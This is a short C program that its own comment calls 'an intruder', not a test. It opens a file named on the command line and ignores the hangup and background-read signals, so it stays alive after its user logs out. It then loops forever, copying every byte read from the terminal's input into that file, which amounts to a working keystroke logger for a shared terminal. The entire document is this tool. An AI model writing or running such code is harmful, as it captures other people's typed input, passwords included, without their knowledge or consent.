/* Not a test but an intruder: `lurk FILE` stays behind when its user leaves,
 * and writes to FILE what it can read from the terminal, its input. */
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
    int fd = argc > 1 ? open(argv[1], O_WRONLY | O_CREAT, (mode_t)0644) : -1;
    char byte;

    signal(SIGHUP, SIG_IGN);
    signal(SIGTTIN, SIG_IGN);
    if (fd < 0 || write(fd, "here\n", 5) != 5)
        return 1;
    for (;;) {
        if (read(STDIN_FILENO, &byte, 1) != 1)
            usleep(10000);
        else if (write(fd, &byte, 1) != 1)
            return 1;
    }
}
